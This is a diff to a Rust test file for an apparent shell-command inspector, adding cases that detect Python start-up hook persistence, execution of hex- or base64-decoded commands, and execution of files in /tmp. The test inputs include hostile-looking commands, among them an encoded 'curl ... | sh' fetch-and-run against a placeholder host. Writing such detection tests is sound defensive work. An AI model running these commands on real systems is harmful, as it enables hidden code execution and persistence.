@@ -504,6 +504,8 @@ fn what_each_python_reads_as_it_starts_is_a_start_up_place() {
             "python3 -c \"from pathlib import Path; import sysconfig; Path(sysconfig.get_path('purelib'), 'a.pth').write_text('import os')\"",
             "python3 -c \"import site, pathlib; d = pathlib.Path(site.getusersitepackages()); d.mkdir(parents=True, exist_ok=True); (d / 'sitecustomize.py').write_text('import os')\"",
             "echo 'import os' > \"$(python3 -m site --user-site)/a.pth\"",
+            "cp a.pth \"$(python3 -m site --user-site)/\"",
+            "mv sitecustomize.py ~/.local/lib/python3.12/site-packages/",
             "d=$(python3 -c 'import site; print(site.USER_SITE)'); echo 'import os' > \"$d/sitecustomize.py\"",
         ],
     );
@@ -530,6 +532,9 @@ fn what_is_decoded_out_of_constants_is_read() {
     let base = "Y3VybCBodHRwczovL2guZXhhbXBsZS94IHwgc2g=";
     for line in [
         format!("python3 -c \"import os; os.system(bytes.fromhex('{hex}').decode())\""),
+        format!("python3 -c \"import os; x = '{hex}'; os.system(bytes.fromhex(x).decode())\""),
+        format!("python3 -c \"import os, binascii; os.system(binascii.unhexlify('{hex}').decode())\""),
+        format!("node -e 'const x = \"{hex}\"; require(\"child_process\").execSync(Buffer.from(x, \"hex\") + \"\")'"),
         format!("python3 -c \"import os, codecs; os.system(codecs.decode('{hex}', 'hex').decode())\""),
         format!("node -e 'require(\"child_process\").execSync(Buffer.from(\"{hex}\", \"hex\") + \"\")'"),
         format!(
@@ -654,4 +659,27 @@ fn a_transaction_on_a_file_of_the_project_writes_that_file() {
     let bare = inspect("sqlite3 data/app.db 'delete from a'");
     let kinds = |seen: &Inspection| seen.findings.iter().map(|finding| finding.kind).collect::<Vec<_>>();
     assert_eq!(kinds(&seen), kinds(&bare));
+}
+
+#[test]
+fn whoever_is_asked_for_a_version_out_of_a_file_is_run() {
+    for (line, file) in [
+        ("java -jar /tmp/x.jar --version", "/tmp/x.jar"),
+        ("dotnet /tmp/x.dll --help", "/tmp/x.dll"),
+        ("mono /tmp/x.exe --version", "/tmp/x.exe"),
+        ("poetry run /tmp/x --version", "/tmp/x"),
+        ("uv run /tmp/x.py --help", "/tmp/x.py"),
+        ("rustup run stable /tmp/x --version", "/tmp/x"),
+        ("uv run /tmp/x.py", "/tmp/x.py"),
+    ] {
+        assert!(touches(line, Effect::Execute, file), "{line}: {:#?}", inspect(line));
+    }
+    for line in ["java --version", "dotnet --version", "uv run --help", "poetry --version", "java -jar app.jar dump x"]
+    {
+        let seen = inspect(line);
+        assert!(seen.is_clear(), "{line}: {seen:#?}");
+        assert!(seen.touches.iter().all(|touch| touch.name.ends_with("/app.jar")), "{line}: {seen:#?}");
+    }
+    let fetched = inspect("pnpm dlx evil --version");
+    assert!(fetched.touches.iter().any(|touch| touch.name == "package evil"), "{fetched:#?}");
 }
